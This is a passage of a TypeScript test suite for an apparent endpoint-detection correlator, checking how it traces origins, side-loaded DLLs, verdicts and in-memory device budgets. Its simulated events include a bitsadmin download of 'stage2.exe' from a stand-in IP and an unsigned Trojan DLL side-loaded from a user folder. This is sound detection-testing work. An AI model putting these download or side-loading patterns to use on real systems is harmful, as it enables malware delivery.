      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: file, action: 'quarantined' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 5))!.revisions[0]!;
    expect(report.originKind).toBe('internet');
    const origin = section(report, 'origin');
    expect(origin.summary).toContain('Inferred: bitsadmin.exe asked BITS for it from http://203.0.113.9/stage2.exe');
    expect(origin.items.map((i) => [i.ref.seq, i.note?.slice(0, 43)])).toEqual([
      [4, 'created the detected file'],
      [3, 'the process that created the file'],
      [2, 'inferred: bitsadmin.exe (pid 5000) asked BI'],
    ]);
    expect(report.executed).toBe(false);
    expect(report.verdict).toBe('gray');
    expect(report.confidence?.level).toBe('low');
  });

  it('side-loading: an unsigned DLL from a user folder loaded by a signed EXE is listed and weighs in', async () => {
    const ev = trail();
    const dir = 'C:\\Users\\taro\\AppData\\Roaming\\Vendor\\';
    await r.feed([
      ev('proc.start', EXPLORER_START),
      ev('proc.start', { pg: LOADER, pid: 6000, ppg: EXPLORER, image: `${dir}VendorUpdate.exe`, cmd: `"${dir}VendorUpdate.exe"` }),
      ev('image.load', { pg: LOADER, path: `${dir}VendorUpdate.exe`, sig: 'trusted', signer: 'Vendor Software Inc.' }),
      ev('image.load', { pg: LOADER, path: `${dir}version.dll`, sig: 'unsigned' }),
      ev('image.load', { pg: LOADER, path: 'C:\\Windows\\System32\\kernel32.dll', sig: 'trusted', signer: 'Microsoft Windows' }),
      ev('av.detect', { engine: 'E', threat: 'Trojan:Win32/X', path: `${dir}version.dll`, action: 'quarantined' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 6))!.revisions[0]!;
    expect(report.execution).toMatchObject({ how: 'loaded', pg: LOADER });
    expect(section(report, 'imageLoads').items.map((i) => [i.ref.seq, i.note])).toEqual([[4, 'the detected file loaded as an image (unsigned)']]);
    expect(section(report, 'attributes').items[0]!.event).toMatchObject({ sig: 'unsigned' });
    expect(report.executed).toBe(true);
  });

  it('lists a side-load by a signed EXE when another file is detected, and a Microsoft-signed file that did nothing is white', async () => {
    const ev = trail();
    const exe = 'C:\\Program Files\\Vendor\\app.exe';
    await r.feed([
      ev('proc.start', EXPLORER_START),
      ev('proc.start', { pg: LOADER, pid: 6000, ppg: EXPLORER, image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'msiexec.exe /V' }),
      ev('proc.start', { pg: HOST, pid: 6100, ppg: LOADER, image: 'C:\\Windows\\System32\\MsiExec.exe', cmd: 'C:\\Windows\\System32\\MsiExec.exe -Embedding 1234' }),
      ev('proc.start', { pg: CHILD, pid: 6200, ppg: HOST, image: 'C:\\Windows\\System32\\sc.exe', cmd: 'sc.exe query', sig: 'trusted', signer: 'Microsoft Windows' }),
      ev('av.detect', { engine: 'E', threat: 'PUA:Win32/X', path: 'C:\\Windows\\System32\\sc.exe', action: 'allowed' }),
    ]);
    const report = r.store.alerts.view(alertIdFor(r.tmid, 5))!.revisions[0]!;
    expect(ruleIds(report)).toEqual(['chain.signed-parent', 'execution.executed', 'signer.installed', 'signer.microsoft', 'signer.trusted']);
    expect(report.verdict).toBe('white');
    expect(report.confidence?.level).toBe('medium');
    void exe;
  });
});

describe('correlator: device states in memory', () => {
  it('keeps states within the byte budget, dropping the least recently used, and a dropped device reports from its snapshot', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kiseki-corr-budget-'));
    const store = openHotStore({ dataDir: dir });
    try {
      const { tenant } = await store.tenants.create({ supportId: 'T1', name: 'Tenant One', now: T0 });
      const tmids: string[] = [];
      for (let i = 0; i < 40; i++) tmids.push((await store.devices.enroll(tenant, { computer: `PC-${i}`, agentVersion: '3', os: 'Windows 11', ips: [], macs: [] }, T0)).device.tmid);
      const clock = createManualClock(T0 + 3_600_000);
      // About 8 states of three processes each (DeviceState.approxBytes: 600 + 3 × 720 bytes), a count bound far above.
      const correlator = new Correlator({ store, intel: createThreatIntel(undefined), clock, maxDevicesInMemory: 1000, deviceStateBudgetBytes: 8 * 2_760 });
      const core = new ShardCore({ store, index: 0, workers: 1, correlator, clock });
      core.recover();
      let lsn = 0;
      const feed = async (tmid: string, events: TrailEvent[]): Promise<void> => {
        const bytes = encode(events);
        const record = { tmid, id: (++lsn).toString(16).padStart(32, '0'), sentAt: 0, recvAt: clock.now(), first: events[0]!.seq, last: events.at(-1)!.seq, n: events.length, z: compress(bytes) };
        await store.log.commitBatches([{ lsn, record }]);
        core.processBatch(lsn, tmid, bytes, record.recvAt);
        await core.flush();
      };
      const { before } = blackScenario();
      // Device 0 runs the chain up to the detection, then 39 others start a few processes each.
      await feed(tmids[0]!, before.slice(0, 13));
      let most = 0;
      for (const tmid of tmids.slice(1)) {
        const ev = trail();
        await feed(tmid, [
          ev('proc.start', { pg: EXPLORER, image: 'C:\\Windows\\explorer.exe', cmd: 'explorer.exe' }),
          ev('proc.start', { pg: CHROME, ppg: EXPLORER, image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', cmd: 'chrome.exe' }),
          ev('proc.start', { pg: WORD, ppg: EXPLORER, image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', cmd: 'winword.exe' }),
        ]);
        most = Math.max(most, correlator.devicesInMemory());
      }
      expect(most).toBeLessThanOrEqual(8);
      expect(most).toBeGreaterThanOrEqual(6);
      // Device 0 was dropped long ago; its detection still finds the whole chain.
      await feed(tmids[0]!, before.slice(13));
      const report = store.alerts.view(alertIdFor(tmids[0]!, 14))!.revisions[0]!;
      expect(seqs(report, 'chain')).toEqual([1, 5, 7, 10]);
      expect(report.verdict).toBe('black');
    } finally {
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
